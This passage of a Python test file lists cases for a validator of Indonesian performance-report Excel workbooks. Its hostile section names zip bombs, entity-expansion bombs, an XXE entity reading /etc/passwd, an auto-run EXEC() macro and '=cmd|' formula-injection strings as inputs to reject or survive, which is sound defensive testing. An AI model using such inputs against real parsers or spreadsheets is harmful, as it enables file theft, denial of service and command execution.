         drop_sheets(*schema.REPORT_SHEETS), LAPORAN, galat=0),
    Case("lembar_laporan_berisi_rumus", "report sheets holding formulas (HYPERLINK, 1/0) typed by "
         "staff: replaced", lambda p: g.reshape(p, report_sheets_with_formulas), LAPORAN, galat=0),
    Case("nama_lembar_huruf_kecil", "sheets renamed 'realisasi', 'ANGGARAN ', 'pk program'",
         lambda p: g.reshape(p, lower_case_sheet_names), LAPORAN, galat=0),
    Case("lembar_isian_tersembunyi", "input sheets Renstra and Skala hidden",
         lambda p: g.reshape(p, hidden_inputs), LAPORAN, galat=0),
    # headers
    Case("judul_kolom_diganti", "header 'Realisasi' renamed 'Realisasi Tahun Ini'",
         lambda p: workbook(p, extra=g.overwrite("Realisasi", ref(R, "realisasi", -1),
                                                 "Realisasi Tahun Ini")),
         LAPORAN, temuan=(("K00", header(R)),)),
    Case("judul_kolom_alias", "headers typed with their accepted aliases: 'Kode IK', 'Indikator "
         "Kinerja', 'Pagu APBD Murni'",
         lambda p: workbook(p, extra=g.chain(
             g.overwrite("Renstra", ref("renstra", "kode_indikator", -1), "Kode IK"),
             g.overwrite("PK", ref(P, "indikator", -1), "Indikator Kinerja"),
             g.overwrite("Anggaran", ref(A, "pagu_murni", -1), "Pagu APBD Murni"))),
         LAPORAN, galat=0),
    Case("judul_kolom_spasi_huruf", "headers in capitals, with line breaks, extra spaces, ':' '*'",
         lambda p: workbook(p, extra=g.chain(
             g.overwrite("Realisasi", ref(R, "kode_indikator", -1), "  KODE\nINDIKATOR :"),
             g.overwrite("Realisasi", ref(R, "realisasi", -1), "REALISASI*"),
             g.overwrite("Anggaran", ref(A, "uraian", -1), "uraian\u00a0"))),
         LAPORAN, galat=0),
    Case("kolom_diurutkan_ulang", "Realisasi's columns right to left; Anggaran's Kode and Level "
         "moved to the end", lambda p: g.reshape(p, reorder_columns), LAPORAN, galat=0),
    Case("kolom_tambahan_judul_turun", "a user column inserted in PK and its header pushed down "
         "to row 6 under a printed title", lambda p: g.reshape(p, extra_columns_and_lower_header),
         LAPORAN, galat=0),
    Case("judul_kolom_hilang", "header 'Realisasi' erased",
         lambda p: g.reshape(p, set_cells("Realisasi", **{ref(R, "realisasi", -1): None})),
         LAPORAN, temuan=(("K00", header(R)),)),
    Case("semua_judul_hilang", "every header of Anggaran erased",
         lambda p: g.reshape(p, no_headers), LAPORAN, temuan=(("K00", "Anggaran"),)),
    # merged cells
    Case("sel_gabung_judul", "titles merged across A1:H1 above the tables",
         lambda p: g.reshape(p, merged_title), LAPORAN, galat=0),
    Case("sel_gabung_sasaran", "Renstra's Kode Sasaran and Sasaran merged down each sasaran: "
         "the rows under a merge belong to its sasaran, as printed", lambda p: g.reshape(
             p, merged_sasaran), LAPORAN, galat=0),
    Case("sel_gabung_anggaran", "Anggaran cells merged over data: Uraian over Jenis Belanja, a "
         "Realisasi merged down over the next program's", lambda p: g.reshape(p, merged_budget),
         LAPORAN, galat=0),
    # error values
    Case("galat_ref_target", "#REF! in a Realisasi target",
         lambda p: workbook(p, extra=g.overwrite("Realisasi", ref(R, "target"), ErrorValue("#REF!"))),
         LAPORAN, temuan=(("K07", sel(R, "target")),)),
    Case("galat_div0_anggaran", "#DIV/0! in an Anggaran realisasi",
         lambda p: workbook(p, extra=g.overwrite("Anggaran", ref(A, "realisasi", 1),
                                                 ErrorValue("#DIV/0!"))),
         LAPORAN, temuan=(("K07", sel(A, "realisasi", 1)),)),
    Case("galat_na_identitas", "#N/A as the report year",
         lambda p: workbook(p, extra=g.overwrite("Identitas", ident("tahun").split("!")[1],
                                                 ErrorValue("#N/A"))),
         LAPORAN, temuan=(("K07", ident("tahun")),)),
    Case("galat_rumus_capaian", "Capaian formula whose stored result is #DIV/0! (inputs fine)",
         lambda p: workbook(p, extra=g.overwrite(
             "Realisasi", ref(R, "capaian"), ErrorValue("#DIV/0!"),
             formula="=CAPAIAN(tblRealisasi[[#This Row],[Target]],tblRealisasi[[#This Row],"
                     "[Realisasi]],tblRealisasi[[#This Row],[Polaritas]],RumusNegatif)")),
         LAPORAN, galat=0),
    # targets and budgets
    Case("target_nol", "target 0 for IK-01 in every table",
         lambda p: workbook(p, **zero_target(0.0, 0)), LAPORAN, temuan=(("K", sel(R, "target")),)),
    Case("target_negatif", "target -5 for IK-02 in every table",
         lambda p: workbook(p, **zero_target(-5.0, 1)), LAPORAN,
         temuan=(("K", sel(R, "target", 1)),)),
    Case("pagu_nol", "pagu 0 with realisasi 900,000 (kegiatan 1.1)",
         lambda p: consistent_budget(p, k1_1=(0.0, None)), LAPORAN,
         temuan=(("K09c", sel(A, "realisasi", 1)),)),
    Case("pagu_negatif", "pagu -2,000,000 (kegiatan 2.1)",
         lambda p: consistent_budget(p, k2_1=(-2_000_000.0, None)), LAPORAN,
         temuan=(("K09b", sel(A, "pagu_murni", 4)),)),
    Case("realisasi_jauh_di_atas_pagu", "realisasi 1,000 × pagu (kegiatan 1.2)",
         lambda p: consistent_budget(p, k1_2=(None, 1_800_000_000.0)), LAPORAN,
         temuan=(("K09a", sel(A, "realisasi", 2)),)),
    # codes
    Case("kode_ganda", "IK-01 twice in Realisasi (IK-02's row)",
         lambda p: workbook(p, realisasi=setter(_1=dict(kode_indikator="IK-01"))),
         LAPORAN, temuan=(("K11a", sel(R, "kode_indikator", 1)), ("K08", sel(P, "kode_indikator", 1)))),
    Case("kode_kosong", "Kode Indikator left empty in Realisasi",
         lambda p: workbook(p, realisasi=setter(_0=dict(kode_indikator=None))),
         LAPORAN, temuan=(("K08", sel(R, "kode_indikator")), ("K08", sel(P, "kode_indikator")))),
    Case("kode_pk_tanpa_realisasi", "IK-03 of the PK has no Realisasi row",
         lambda p: workbook(p, realisasi=lambda rows: rows.pop(2)),
         LAPORAN, temuan=(("K08", sel(P, "kode_indikator", 2)),)),
    Case("kode_program_ganda", "program code 1 twice in PK Program",
         lambda p: workbook(p, pk_program=setter(_1=dict(kode_program="1"))),
         LAPORAN, temuan=(("K11a", sel("pk_program", "kode_program", 1)),)),
    Case("rumus_tanpa_nilai_tersimpan", "Realisasi =SUM(...) saved without cached results",
         lambda p: g.reshape(p, formulas_without_cache), LAPORAN,
         temuan=(("K08", sel(R, "realisasi")),)),
    # not a workbook
    Case("xls_lama", "an Excel 97-2003 .xls (OLE compound file) renamed .xlsx",
         raw(g.cfb({"Workbook": g.biff8_workbook_stream()})), TOLAK, pesan=("format Excel lama",)),
    Case("dilindungi_sandi", "a password-protected workbook (encrypted OOXML in an OLE container)",
         raw(g.encrypted_ooxml()), TOLAK, pesan=("kata sandi",)),
    Case("ods_berganti_nama", "an OpenDocument spreadsheet renamed .xlsx", ods, TOLAK,
         pesan=("OpenDocument",)),
    Case("csv_berganti_nama", "a CSV (UTF-8 with BOM, ';') renamed .xlsx", raw(CSV), TOLAK,
         pesan=("bukan berkas Excel", "CSV")),
    Case("html_berganti_nama", "an HTML table saved as a spreadsheet, renamed .xlsx", raw(HTML),
         TOLAK, pesan=("bukan berkas Excel",)),
    Case("berkas_nol_bita", "an empty file (0 bytes)", raw(b""), TOLAK, pesan=("bukan berkas Excel",)),
    Case("docx_berganti_nama", "a Word document renamed .xlsx", docx, TOLAK,
         pesan=("bukan buku kerja Excel",)),
    Case("zip_tanpa_workbook", "a zip of CSV and text files renamed .xlsx", zip_not_workbook, TOLAK,
         pesan=("bukan buku kerja Excel",)),
    # damaged
    Case("zip_terpotong", "a workbook cut off halfway (interrupted download)", truncated, TOLAK,
         pesan=("rusak",)),
    Case("zip_deflate_rusak", "a sheet whose deflate stream is damaged", bad_deflate, TOLAK,
         pesan=("rusak",)),
    Case("zip_crc_salah", "a sheet changed after its checksum was taken", bad_crc, TOLAK,
         pesan=("rusak",)),
    Case("bagian_lembar_hilang", "the Realisasi sheet's part missing from the zip",
         missing_part, TOLAK, pesan=("tidak ada",)),
    Case("xml_lembar_rusak", "Realisasi's sheet XML cut off in the middle",
         lambda p: g.patched(p, in_sheet("Realisasi", lambda b: b[: len(b) // 2])), TOLAK,
         pesan=("Realisasi", "tidak dapat dibaca")),
    # hostile
    Case("bom_zip_rasio", "zip bomb: 64 MiB of sheet XML deflated ~1000:1", zip_ratio_bomb, TOLAK,
         pesan=("bom zip", "ditolak")),
    Case("bom_zip_ukuran_palsu", "zip bomb: a part declaring 4,000,000,000 bytes", zip_declared_huge,
         TOLAK, pesan=("bom zip",)),
    Case("bom_zip_berbohong", f"zip bomb with a lying directory: declares 600 KB, inflates to "
         f"{LIAR_MIB} MiB", zip_lying_bomb, TOLAK, pesan=("rusak",)),
    Case("bom_zip_banyak_bagian", "20,001 empty parts in the zip", zip_many_parts, TOLAK,
         pesan=("terlalu banyak bagian",)),
    Case("bom_entitas_sharedstrings", "billion laughs in xl/sharedStrings.xml",
         lambda p: g.patched(p, lambda tmp: {"xl/sharedStrings.xml": with_doctype(
             "sst", "&lol9;", "<t>Indikator 1")}), TOLAK, pesan=("ditolak",)),
    Case("bom_entitas_tersembunyi", "billion laughs in sharedStrings.xml after a 70 KB comment "
         "(past any look at the first bytes)",
         lambda p: g.patched(p, lambda tmp: {"xl/sharedStrings.xml": with_doctype(
             "sst", "&lol9;", "<t>Indikator 1", prolog="<!--" + " " * 70_000 + "-->\n")}),
         TOLAK, pesan=("ditolak",)),
    Case("bom_entitas_lembar", "billion laughs in the Realisasi sheet XML", entity_bomb_sheet, TOLAK,
         pesan=("ditolak|tidak dapat dibaca",)),
    Case("bom_entitas_workbook", "billion laughs in xl/workbook.xml",
         lambda p: g.patched(p, lambda tmp: {"xl/workbook.xml": with_doctype(
             "workbook", "", "<sheets>")}), TOLAK, pesan=("ditolak",)),
    Case("xxe_berkas_lokal", "an external entity reading /etc/passwd in sharedStrings.xml",
         lambda p: g.patched(p, lambda tmp: {"xl/sharedStrings.xml": xxe}), TOLAK,
         pesan=("ditolak",)),
    Case("xlsm_makro_otomatis", "an .xlsm with a VBA project and an Excel 4.0 Auto_Open macro "
         "sheet running EXEC()", xlsm_with_macros, LAPORAN, suffix=".xlsm", galat=0),
    Case("injeksi_rumus", "formula-injection strings (=HYPERLINK, =cmd|, +, -, @, tab) in text "
         "cells of every table and in Identitas", injection, LAPORAN, galat=0),
    Case("teks_sangat_panjang", f"an indicator name of {PANJANG:,} characters (over Excel's 32,767)",
         long_text, LAPORAN, galat=0),
    Case("karakter_kendali", "control characters and U+FFFE in an indicator name",
         control_chars, LAPORAN, galat=0),
    Case("unicode_aneh", "emoji, right-to-left text, CJK, combining marks, zero-width space",
         lambda p: workbook(p, **indikator(2, indikator=UNICODE)), LAPORAN, galat=0),
    Case("sel_jauh_kolom", "a stray value in XFD4 of Anggaran (16,384 columns wide)",
         far_cell("XFD4"), LAPORAN, galat=0, max_mb=50),
    Case("sel_jauh_baris", "a stray value in A1048576 of Anggaran (the last row)",
         far_cell("A1048576"), LAPORAN, galat=1, temuan=(("K08", "Anggaran!C1048576"),),
         max_sel=200_000,
         tombol=None, tombol_alasan="the payload would hold 1,048,576 rows"),
    Case("baris_100000", f"{BARIS:,} Anggaran rows (2 programs, 100 kegiatan, sub kegiatan)",
         hundred_thousand_rows, LAPORAN, galat=0, besar=True,
         tombol=None, tombol_alasan="measured by the CLI in a subprocess; the button's "
         "size behaviour is covered by test_button's range-call test"),
]

BY_NAME = {c.name: c for c in CASES}
assert len(BY_NAME) == len(CASES)
